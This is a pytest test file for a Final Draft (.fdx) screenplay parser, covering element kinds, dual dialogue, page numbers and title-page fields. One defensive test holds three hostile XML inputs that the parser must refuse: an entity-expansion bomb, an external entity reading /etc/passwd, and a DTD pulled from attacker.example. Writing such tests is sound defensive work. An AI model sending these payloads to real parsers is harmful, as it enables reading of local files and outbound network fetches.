"""Final Draft (.fdx) import, on small documents written here and on the shared corpus."""

from __future__ import annotations

import pytest

from closedset.screenplay import ElementKind, ScriptImportError, fdx
from tests.corpus import CORPUS, corpus_files, requires_corpus

K = ElementKind


def document(content: str, extra: str = "") -> bytes:
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="no" ?>\n'
        '<FinalDraft DocumentType="Script" Template="No" Version="4">\n'
        f"<Content>{content}</Content>{extra}</FinalDraft>"
    ).encode()


def para(kind: str, *runs: str, attrs: str = "") -> str:
    texts = "".join(f"<Text>{run}</Text>" for run in runs)
    return f'<Paragraph Type="{kind}"{attrs}>{texts}</Paragraph>'


SIMPLE = document(
    para("Action", "FADE IN:")
    + para("Scene Heading", "INT.  LIGHTHOUSE - NIGHT", attrs=' Number="12"')
    + para("Action", "MARA climbs ", "the stairs.")
    + para("Character", "MARA (V.O.)(CONT'D)")
    + para("Parenthetical", "(whispering)")
    + para("Dialogue", "Nobody lit it.")
    + para("Transition", "CUT TO:")
    + para("Scene Heading", "EXT. HARBOUR - DAWN")
    + para("Shot", "ON THE GULLS")
    + para("General", "They wheel.")
)


def test_paragraph_types_become_element_kinds():
    script = fdx.parse(SIMPLE)
    assert [s.heading for s in script.scenes] == ["INT. LIGHTHOUSE - NIGHT", "EXT. HARBOUR - DAWN"]
    kinds = [e.kind for s in script.scenes for e in s.elements]
    assert kinds == [
        K.HEADING,
        K.ACTION,
        K.CHARACTER,
        K.PARENTHETICAL,
        K.DIALOGUE,
        K.TRANSITION,
        K.HEADING,
        K.SHOT,
        K.ACTION,
    ]


def test_text_runs_are_concatenated_and_lines_count_paragraphs():
    first = fdx.parse(SIMPLE).scenes[0]
    assert first.elements[1].text == "MARA climbs the stairs."
    assert [e.line for e in first.elements] == [2, 3, 4, 5, 6, 7]


def test_scene_number_and_speaker_without_extensions():
    first = fdx.parse(SIMPLE).scenes[0]
    assert first.number == "12"
    speech = [e for e in first.elements if e.character]
    assert [(e.kind, e.character) for e in speech] == [
        (K.CHARACTER, "MARA"),
        (K.PARENTHETICAL, "MARA"),
        (K.DIALOGUE, "MARA"),
    ]
    assert first.elements[2].text == "MARA (V.O.)(CONT'D)"


def test_transition_before_the_first_heading_is_not_a_warning():
    assert fdx.parse(SIMPLE).warnings == []


def test_action_before_the_first_heading_is_kept_as_preamble():
    script = fdx.parse(document(para("Action", "A storm.") + para("Scene Heading", "INT. X - DAY")))
    assert len(script.scenes) == 1
    assert [(e.kind, e.text, e.line) for e in script.preamble] == [(K.ACTION, "A storm.", 1)]


def test_dual_dialogue_is_flagged():
    dual = (
        "<Paragraph><DualDialogue>"
        + para("Character", "ANNA")
        + para("Dialogue", "Left.")
        + para("Character", "BEN")
        + para("Dialogue", "Right.")
        + "</DualDialogue></Paragraph>"
    )
    script = fdx.parse(document(para("Scene Heading", "INT. STAGE - NIGHT") + dual))
    elements = script.scenes[0].elements[1:]
    assert [(e.text, e.character, e.dual) for e in elements] == [
        ("ANNA", "ANNA", True),
        ("Left.", "ANNA", True),
        ("BEN", "BEN", True),
        ("Right.", "BEN", True),
    ]


def test_pages_are_estimated_without_scene_properties():
    script = fdx.parse(SIMPLE)
    assert script.page_count == 1
    assert all(e.page == 1 for s in script.scenes for e in s.elements)


def test_scene_properties_give_printed_pages():
    content = (
        '<Paragraph Type="Scene Heading"><SceneProperties Page="3"/><Text>INT. A - DAY</Text>'
        "</Paragraph>" + para("Action", "One.") + '<Paragraph Type="Scene Heading">'
        '<SceneProperties Page="5"/><Text>EXT. B - NIGHT</Text></Paragraph>'
    )
    script = fdx.parse(document(content))
    assert [s.page for s in script.scenes] == [3, 5]
    assert script.scenes[0].elements[1].page == 3
    assert script.page_count == 5


def test_title_page_gives_title_and_authors():
    title_page = (
        "<TitlePage><Content>"
        '<Paragraph Alignment="Center"><Text></Text></Paragraph>'
        '<Paragraph Alignment="Center"><Text>THE LAMP</Text></Paragraph>'
        '<Paragraph Alignment="Center"><Text>Written by</Text></Paragraph>'
        '<Paragraph Alignment="Center"><Text>Ada Quill &amp; Ben Rook</Text></Paragraph>'
        '<Paragraph Alignment="Left"><Text>ada@example.org</Text></Paragraph>'
        "</Content></TitlePage>"
    )
    script = fdx.parse(document(para("Scene Heading", "INT. X - DAY"), title_page))
    assert script.title == "THE LAMP"
    assert script.authors == ["Ada Quill", "Ben Rook"]
    assert script.title_page["credit"] == "Written by"
    assert script.title_page["notes"] == "ada@example.org"


def test_author_on_the_by_line():
    title_page = (
        '<TitlePage><Content><Paragraph Alignment="Center"><Text>LAMP</Text></Paragraph>'
        '<Paragraph Alignment="Center"><Text>by Ada Quill</Text></Paragraph></Content></TitlePage>'
    )
    script = fdx.parse(document(para("Scene Heading", "INT. X - DAY"), title_page))
    assert script.authors == ["Ada Quill"]


BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE FinalDraft [
  <!ENTITY lol "lol">
  <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
]>
<FinalDraft><Content><Paragraph Type="Action"><Text>&lol3;</Text></Paragraph></Content></FinalDraft>
"""
EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE FinalDraft [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<FinalDraft><Content><Paragraph Type="Action"><Text>&secret;</Text></Paragraph></Content>
</FinalDraft>
"""
EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE FinalDraft SYSTEM "http://attacker.example/evil.dtd">
<FinalDraft><Content><Paragraph Type="Action"><Text>x</Text></Paragraph></Content></FinalDraft>
"""


@pytest.mark.parametrize("data", [BILLION_LAUGHS, EXTERNAL_ENTITY, EXTERNAL_DTD])
def test_hostile_xml_is_refused(data):
    with pytest.raises(ScriptImportError) as raised:
        fdx.parse(data)
    assert raised.value.code == "hostile_xml"
    assert "refused for safety" in str(raised.value)


def test_malformed_xml_names_the_line():
    data = document(para("Action", "ok")).replace(b"</Content>", b"\n\n</Contnt>")
    with pytest.raises(ScriptImportError) as raised:
        fdx.parse(data)
    assert raised.value.code == "malformed"
    assert "line 5" in str(raised.value)


def test_xml_that_is_not_final_draft_is_unknown():
    with pytest.raises(ScriptImportError) as raised:
        fdx.parse(b'<?xml version="1.0"?><svg><g/></svg>')
    assert raised.value.code == "unknown_format"


def test_final_draft_without_content_is_malformed():
    with pytest.raises(ScriptImportError) as raised:
        fdx.parse(b"<FinalDraft><TitlePage/></FinalDraft>")
    assert raised.value.code == "malformed"


@pytest.mark.parametrize(
    ("cue", "name"),
    [("EDWARD (V.O.)(CONT'D)", "EDWARD"), ("MRS. KIRKE (O.S.)", "MRS. KIRKE"), ("JO ^", "JO")],
)
def test_character_name_strips_extensions(cue, name):
    assert fdx.character_name(cue) == name


# --- the shared corpus --------------------------------------------------------------------------


@requires_corpus
@pytest.mark.parametrize("path", corpus_files("fdx"), ids=lambda p: p.name)
def test_every_corpus_fdx_imports(path):
    script = fdx.parse(path.read_bytes())
    assert script.scenes
    assert script.page_count >= 1
    assert all(s.heading for s in script.scenes)


@requires_corpus
def test_real_final_draft_export():
    script = fdx.parse((CORPUS / "fdx" / "Little-Women-excerpt.fdx").read_bytes())
    assert script.title == "LITTLE WOMEN"
    assert len(script.scenes) == 13
    assert any(e.dual for s in script.scenes for e in s.elements)


@requires_corpus
def test_fdx_agrees_with_fountain_on_scene_headings():
    from closedset.screenplay import fountain

    for name in ("Big-Fish", "Brick-and-Steel", "Little-Women-excerpt", "The-Last-Birthday-Card"):
        from_fdx = fdx.parse((CORPUS / "fdx" / f"{name}.fdx").read_bytes())
        text = (CORPUS / "fountain" / f"{name}.fountain").read_text(encoding="utf-8")
        headings = [" ".join(s.heading.upper().split()) for s in fountain.parse(text).scenes]
        assert [" ".join(s.heading.upper().split()) for s in from_fdx.scenes] == headings, name
